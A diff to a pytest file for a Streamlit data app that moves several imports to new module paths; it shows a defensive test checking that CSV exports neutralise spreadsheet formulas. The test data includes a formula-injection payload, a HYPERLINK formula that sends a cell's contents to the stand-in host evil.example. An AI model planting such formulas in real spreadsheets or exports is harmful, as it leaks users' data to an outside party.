@@ -23,8 +23,8 @@ import pytest
 import streamlit as st
 from streamlit.testing.v1 import AppTest
 
-from lawreach.load import load_dataset
-from lawreach.read import MAX_FILE_BYTES
+from lawreach.contract.load import load_dataset
+from lawreach.contract.read import MAX_FILE_BYTES
 from tests.conftest import REPO
 from tests.sample_data import patrol_rows, station_features, write_sample
 from tests.test_corpus import CORPUS, MANIFEST
@@ -159,7 +159,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-2
 def test_exported_csv_neutralises_formulas_in_every_text_cell(tmp_path):
     """Even if a formula got past the loader (a future rule change), the CSV export
     must not hand a spreadsheet a cell it would run."""
-    export_data = pytest.importorskip("lawreach.export_data")
+    export_data = pytest.importorskip("lawreach.export.tabular")
     data_dir = write_sample(tmp_path / "formulas")
     records = load_dataset(data_dir).records.copy()
     text_columns = ["name", "name_zh", "name_pinyin", "partner_agency", "programme", "city",
